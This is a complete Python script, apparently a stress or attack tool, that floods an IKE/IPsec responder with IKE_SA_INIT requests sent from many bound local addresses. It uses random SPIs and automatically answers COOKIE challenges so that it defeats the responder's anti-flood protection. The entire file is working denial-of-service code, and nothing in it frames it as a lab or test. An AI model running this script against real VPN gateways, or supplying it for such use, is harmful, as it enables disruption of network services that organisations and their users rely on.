#!/usr/bin/env python3
"""IKE_SA_INIT flood from many local addresses that answer cookies.

usage: init-flood.py TEMPLATE TARGET SECONDS FIRST_ADDR COUNT
TEMPLATE: a captured IKE_SA_INIT request (bytes). Each request gets a fresh
initiator SPI; a COOKIE demand is answered by resending with the cookie.
"""
import ipaddress, os, select, socket, struct, sys, time

template = open(sys.argv[1], "rb").read()
target = (sys.argv[2], 500)
seconds = float(sys.argv[3])
first = ipaddress.ip_address(sys.argv[4])
count = int(sys.argv[5])

socks = []
for i in range(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((str(first + i), 500))
    s.setblocking(False)
    socks.append(s)

def with_spi(msg, spi):
    return spi + msg[8:]

def with_cookie(msg, cookie):
    first_payload = msg[16]
    notify = struct.pack("!BBHBBH", first_payload, 0, 8 + len(cookie), 0, 0, 16390) + cookie
    body = msg[28:]
    total = 28 + len(notify) + len(body)
    header = msg[:16] + bytes([41]) + msg[17:24] + struct.pack("!I", total)
    return header + notify + body

sent = answered = cookies = full = 0
end = time.time() + seconds
while time.time() < end:
    for s in socks:
        try:
            s.sendto(with_spi(template, os.urandom(8)), target)
            sent += 1
        except BlockingIOError:
            pass
    r, _, _ = select.select(socks, [], [], 0.002)
    for s in r:
        while True:
            try:
                data, _ = s.recvfrom(65535)
            except BlockingIOError:
                break
            answered += 1
            # A COOKIE demand: one notify payload (next payload 41), type 16390.
            if data[16] == 41 and len(data) >= 36 and struct.unpack("!H", data[34:36])[0] == 16390:
                cookies += 1
                plen = struct.unpack("!H", data[30:32])[0]
                cookie = data[36:28 + plen]
                req = with_spi(template, data[:8])
                try:
                    s.sendto(with_cookie(req, cookie), target)
                    sent += 1
                except BlockingIOError:
                    pass
            else:
                full += 1
print(f"sent {sent}, answers {answered}: {cookies} cookie demands, {full} other answers")
